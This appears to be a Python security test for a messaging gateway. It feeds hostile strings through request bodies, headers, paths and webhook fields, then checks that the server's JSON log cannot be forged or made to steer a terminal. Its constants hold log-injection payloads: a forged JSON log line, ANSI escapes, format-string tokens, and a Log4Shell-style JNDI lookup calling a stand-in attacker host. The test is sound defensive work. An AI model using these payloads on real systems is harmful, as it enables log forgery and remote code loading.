"""Texts that want to be log lines: whatever strangers send, each line is one JSON object, and none is theirs.

Line 40 of our list of attacks. What the log does with a text is tried in tests/test_logs.py; here a real process
hears it through every door.
"""

import dataclasses
import io
import json
import re
from pathlib import Path
from urllib.parse import urlsplit

from tests import processes
from tests.api import raw
from tests.hostile import asking
from tests.hostile.test_keys import OWN
from tests.messages import hooks
from tests.world import World, building

FORGED = '\n{"level":"error","event":"forged"}\n'
TEXTS = (
    FORGED + "\x1b[31mred\x1b[0m\x08\x08",
    "${jndi:ldap://evil.example/a} %s%n%d{} \u2028forged\u2029 \x9b31m \x85",
)
TALKATIVE = {"log_level": "debug", "log_json": "1"}
_HARMFUL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]")


# 40
async def test_no_text_from_anywhere_forges_a_line_or_steers_a_terminal(dsn: str, tmp_path: Path) -> None:
    async with (
        building(dsn, tmp_path) as built,
        processes.running(dsn, tmp_path, "serve", "--work", **TALKATIVE) as gateway,
    ):
        world = dataclasses.replace(built, url=gateway.url)
        for text in TEXTS:
            await whisper_in_bodies(world, text)
            await whisper_in_headers(world, text)
            await whisper_in_webhooks(world, text)
        await hooks.rest(world)
    written = gateway.log.read_bytes().decode()
    lines = written[written.index("{") :].split("\n")  # before it the command line spoke, and nobody else
    assert len(lines) > 10
    for line in filter(None, lines):
        told = json.loads(line)
        assert {"timestamp", "level", "event"} <= told.keys(), line
        assert told["event"] != "forged"
        assert not _HARMFUL.search(line), line


async def whisper_in_bodies(world: World, text: str) -> None:
    """Put the text into every place of every endpoint."""
    seen = set()
    for one in asking.every(OWN):
        for slot in asking.slots(one):
            if (one.endpoint.id, slot.where, slot.name) not in seen and slot.where not in {"path", "file"}:
                seen.add((one.endpoint.id, slot.where, slot.name))
                answer = await slot.put(one, text).of(world)
                assert answer.status != 500, (asking.show(one), slot.name, answer.body)


async def whisper_in_headers(world: World, text: str) -> None:
    """Say it raw, in headers that programs like to log, and as path and method."""
    port = urlsplit(world.url).port
    assert port is not None
    said = text.encode("utf-8").decode("latin-1")
    for name in ("User-Agent", "X-Request-Id", "Referer", "X-Forwarded-For", "Idempotency-Key", "X-API-Key", "Host"):
        await raw.send(port, raw.request("GET", "/api/v1/whatsapp/external/me", [(name, said)]))
    await raw.send(port, raw.request("GET", f"/{said}"))
    await raw.send(port, raw.request("GET", "/" + "".join(f"%{octet:02x}" for octet in text.encode())))
    await raw.send(port, raw.request(f"GET{said}", "/"))


async def whisper_in_webhooks(world: World, text: str) -> None:
    """Let a customer have it as a name, a text and a file's name, and let Meta give it as a type and as a reason."""
    person = {"profile": {"name": text}, "wa_id": hooks.DIGITS}
    file = {"id": "7070", "mime_type": text, "filename": text, "caption": text}
    for message in (
        hooks.text(text),
        hooks.said("document", file),
        hooks.said(text, {"body": text}),
        hooks.said("button", {"text": text, "payload": text}),
    ):
        written = hooks.body(world, [hooks.change(world, contacts=[person], messages=[message])])
        answer = await hooks.post(world, written)
        assert answer.status == 200
    failed = hooks.status("wamid.nobody", "failed", errors=[hooks.failure(131026, text)])
    assert (await hooks.post(world, hooks.body(world, [hooks.change(world, statuses=[failed])]))).status == 200
    broken = io.BytesIO(f'{{"object": {json.dumps(text)}, "entry": 7}}'.encode())
    assert (await hooks.post(world, broken.getvalue())).status == 200
